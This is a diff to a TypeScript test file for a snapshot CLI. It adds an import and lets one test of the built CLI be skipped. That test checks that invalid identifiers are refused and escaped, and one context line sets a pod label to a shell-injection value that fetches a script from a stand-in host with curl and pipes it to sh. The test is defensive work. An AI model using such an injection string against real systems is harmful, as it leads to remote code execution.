@@ -15,6 +15,7 @@ import { parseSnapshot, SnapshotError } from '../../src/snapshot/file.js';
 import { follows, identifierProblems, type RuleName } from '../../src/snapshot/identifiers.js';
 import type { Snapshot } from '../../src/snapshot/schema.js';
 import { buildSnapshot } from '../support/snapshot-builder.js';
+import { builtCliSkip } from '../support/tier.js';
 
 const CLI = 'dist/src/cli.js';
 const a = (n: number, c = 'a'): string => c.repeat(n);
@@ -138,7 +139,7 @@ describe('a snapshot whose identifiers break the rules is refused, naming the JS
     assert.match(refusal(s).message, /refused: 15 identifiers break .*\n(?: {2}.*\n){5} {2}… and 10 more$/);
   });
 
-  test('the built CLI refuses it with exit 2, the path and the value escaped', async () => {
+  test('the built CLI refuses it with exit 2, the path and the value escaped', { skip: builtCliSkip() }, async () => {
     assert.ok(existsSync(CLI), `${CLI} is missing: npm run build first (npm test does)`);
     const s = buildSnapshot();
     s.cluster.pods[0]!.metadata.labels = { app: ';curl${IFS}-s${IFS}evil.example|sh;#' };
